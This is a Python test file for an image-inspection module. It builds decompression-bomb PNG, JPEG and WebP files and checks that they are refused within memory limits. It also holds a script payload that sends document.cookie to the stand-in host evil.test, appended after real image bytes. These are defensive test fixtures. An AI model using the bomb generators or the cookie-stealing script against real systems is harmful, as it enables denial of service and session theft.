"""Pictures that are small on the way and huge once unpacked, or something beside a picture."""

from __future__ import annotations

import io
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import PIL.Image
import pytest

from results.picture import LARGE_PIXELS, MAX_SCANS, NotAPicture, inspect, thumbnail

START = b"\x89PNG\r\n\x1a\n"
GIGAPIXEL = 40_000
on_linux = pytest.mark.skipif(
    not Path("/proc/self/status").exists(), reason="only Linux says what a process held at most"
)


def chunk(name: bytes, data: bytes) -> bytes:
    checksum = struct.pack(">I", zlib.crc32(name + data))
    return struct.pack(">I", len(data)) + name + data + checksum


def png(width: int, height: int, pixels: bytes, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    parts = [chunk(b"IHDR", header), extra, chunk(b"IDAT", pixels), chunk(b"IEND", b"")]
    return START + b"".join(parts)


@cache
def zeros(size_mb: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(1 << 20)) for _ in range(size_mb)) + packer.flush()


def drawn(kind: str, size: tuple[int, int] = (64, 48), **options: bool) -> bytes:
    out = io.BytesIO()
    PIL.Image.new("L", size, 128).save(out, kind, **options)
    return out.getvalue()


def jpeg_of(width: int, height: int) -> bytes:
    """A whole JPEG whose header was changed."""
    data = bytearray(drawn("JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def webp_of(width: int, height: int) -> bytes:
    """A canvas of its own size around a small picture."""
    inner = drawn("WEBP", lossless=True)[12:]
    canvas = (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + bytes(4) + canvas + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


BOMBS: dict[str, Callable[[], bytes]] = {
    "PNG of a gigapixel": lambda: png(GIGAPIXEL, GIGAPIXEL, zeros(1)),
    "PNG as wide as can be": lambda: png(2**31 - 1, 1, zeros(1)),
    "PNG with a text of 100 MB": lambda: png(1, 1, zlib.compress(b"\0\0"), text(b"zTXt")),
    "PNG with colours of 100 MB": lambda: png(1, 1, zlib.compress(b"\0\0"), text(b"iCCP")),
    "JPEG of a gigapixel": lambda: jpeg_of(GIGAPIXEL, GIGAPIXEL),
    "WebP of a gigapixel": lambda: webp_of(GIGAPIXEL, GIGAPIXEL),
    "WebP around another one": lambda: webp_of(4000, 4000),
    "JPEG of thousands of scans": lambda: scans(5000),
}


def text(kind: bytes) -> bytes:
    return chunk(kind, b"a\0\0" + zeros(100))


def scans(count: int) -> bytes:
    """The last scan of a progressive JPEG again and again."""
    data = drawn("JPEG", (1600, 1600), progressive=True)
    last = data.rfind(b"\xff\xda")
    return data[:last] + data[last:-2] * count + data[-2:]


@cache
def bomb_of(name: str) -> bytes:
    return BOMBS[name]()


@pytest.mark.parametrize("bomb", BOMBS)
def test_a_bomb_is_refused_by_its_header(bomb: str) -> None:
    data = bomb_of(bomb)
    assert len(data) < 1_000_000
    for look in (inspect, thumbnail):
        with pytest.raises(NotAPicture):
            look(data)


def peak_growth_kb(program: str, path: Path) -> int:
    """How much memory a program of its own took beyond what its libraries take.

    Asked of the system, as libraries in C take theirs behind Python's back; what is freed is given
    back at once, so that the peak is what was held at one moment.
    """
    measure = (
        "import pathlib, sys\n"
        "from results.picture import NotAPicture, inspect, thumbnail\n"
        "def peak():\n"
        "    lines = pathlib.Path('/proc/self/status').read_text().splitlines()\n"
        "    return int(next(line for line in lines if line.startswith('VmHWM')).split()[1])\n"
        "before = peak()\n"
        f"{program}\n"
        "print(peak() - before)\n"
    )
    ran = subprocess.run(
        [sys.executable, "-c", measure, str(path)],
        env={"MALLOC_MMAP_THRESHOLD_": "1000000"},
        cwd=Path(__file__).parents[2],
        capture_output=True,
        text=True,
        check=True,
    )
    return int(ran.stdout)


@on_linux
def test_bombs_take_no_memory(tmp_path: Path) -> None:
    for name in BOMBS:
        (tmp_path / name).write_bytes(bomb_of(name))
    program = (
        "for path in pathlib.Path(sys.argv[1]).iterdir():\n"
        "    for look in (inspect, thumbnail):\n"
        "        try: look(path.read_bytes())\n"
        "        except NotAPicture: pass\n"
    )
    assert peak_growth_kb(program, tmp_path) < 50_000


def test_what_lies_behind_the_last_pixel_is_not_unpacked() -> None:
    assert inspect(png(1, 1, zeros(100))).width == 1


def test_ordinary_progressive_pictures_pass() -> None:
    assert inspect(scans(1)).width == 1600
    assert inspect(scans(MAX_SCANS - 10)).width == 1600


@on_linux
def test_large_pictures_are_decoded_a_few_at_a_time(tmp_path: Path) -> None:
    """Eight threads with 36 MB of pixels each; more than two at once would show."""
    assert LARGE_PIXELS < 6000 * 6000
    (tmp_path / "large.png").write_bytes(drawn("PNG", (6000, 6000)))
    program = (
        "import concurrent.futures\n"
        "data = pathlib.Path(sys.argv[1], 'large.png').read_bytes()\n"
        "with concurrent.futures.ThreadPoolExecutor(8) as threads:\n"
        "    assert {one.width for one in threads.map(inspect, [data] * 8)} == {6000}\n"
    )
    assert peak_growth_kb(program, tmp_path) < 3 * 36_000


PAGE = b"<script>fetch('https://evil.test/'+document.cookie)</script>"


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
def test_a_page_behind_a_picture_is_stored_as_the_picture_it_begins_with(kind: str) -> None:
    facts = inspect(drawn(kind) + PAGE)
    assert facts.content_type == f"image/{kind.lower()}"
    assert facts.may_be_shown


@pytest.mark.parametrize("kind", ["PNG", "JPEG", "WEBP"])
@pytest.mark.parametrize("named", ["png", "jpg", "html", "svg"])
def test_the_ending_comes_from_the_bytes(kind: str, named: str) -> None:
    assert inspect(drawn(kind)).extension == {"JPEG": "jpg"}.get(kind, kind.lower()), named
